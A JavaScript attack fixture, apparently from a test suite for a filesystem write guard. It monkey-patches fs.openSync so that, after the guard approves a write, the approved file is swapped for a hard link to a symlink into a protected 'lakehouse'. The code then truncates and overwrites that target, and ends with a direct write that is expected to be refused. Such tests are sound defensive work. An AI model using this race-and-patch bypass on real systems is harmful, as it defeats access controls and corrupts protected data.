/* @attack {"title": "graceful-fs style: replace fs.openSync (which Node's writeFileSync calls after the guard decided) by a function that turns the decided run-dir file into a symlink to the lakehouse (a hard link of the pre-placed one), then calls the wrapper it replaced; and from inside it, truncate that name through a wrapper nobody replaced", "setup": ["abs-symlink-to-lakehouse"], "rule": "fs.write"} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
const target = `${run}/swap.csv`;
fs.writeFileSync(target, 'innocent\n');
const wrapper = fs.openSync;
let replaced = false;
try {
  fs.openSync = function openSync(p, ...rest) {
    fs.openSync = wrapper;
    fs.unlinkSync(target);
    // link() does not follow a symlink: swap.csv becomes a second name of lake.csv -> the lakehouse.
    fs.linkSync(`${run}/lake.csv`, target);
    try {
      fs.truncateSync(target, 0);
    } catch (error) {
      process.stderr.write(`inner truncate: ${error.code}\n`);
    }
    return Reflect.apply(wrapper, fs, [p, ...rest]);
  };
  replaced = true;
} catch {
  // read-only: the write below is then of the innocent file
}
try {
  // A Buffer: Node's writeFileSync then opens through the public fs.openSync.
  fs.writeFileSync(target, Buffer.from('poisoned through a replaced fs.openSync\n'));
} finally {
  if (replaced) fs.openSync = wrapper;
}
// What the trick must not amount to: the plain write through the pre-placed symlink, which must be refused.
fs.writeFileSync(`${run}/lake.csv`, 'poisoned directly\n');
